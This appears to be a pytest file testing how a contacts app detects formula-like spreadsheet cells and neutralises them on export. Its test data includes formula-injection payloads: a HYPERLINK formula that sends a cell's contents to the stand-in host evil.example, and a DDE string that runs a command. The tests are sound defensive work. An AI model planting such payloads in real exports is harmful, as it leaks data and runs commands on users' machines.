"""Formula injection: which cells a spreadsheet would run, and how an export cell is made harmless."""

import pytest

from contacts.spreadsheet import cell_neutralise, formula_like


@pytest.mark.parametrize("cell", [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1",
    "  =1+1", "=1", "-", "+", "@", "-cmd|' /C calc'!A0",
])
def test_cells_a_spreadsheet_could_run_are_formula_like(cell):
    assert formula_like(cell)
    assert cell_neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "+33612345678", "-3.5", "-3,5", "1e6", "+1E-3", "Acme", "", "a=b", " x"])
def test_plain_numbers_and_ordinary_text_are_left_alone(cell):
    assert not formula_like(cell)
    assert cell_neutralise(cell) == cell


def test_none_is_an_empty_cell_and_other_values_become_text():
    assert (cell_neutralise(None), cell_neutralise(12), cell_neutralise(-5)) == ("", "12", "-5")
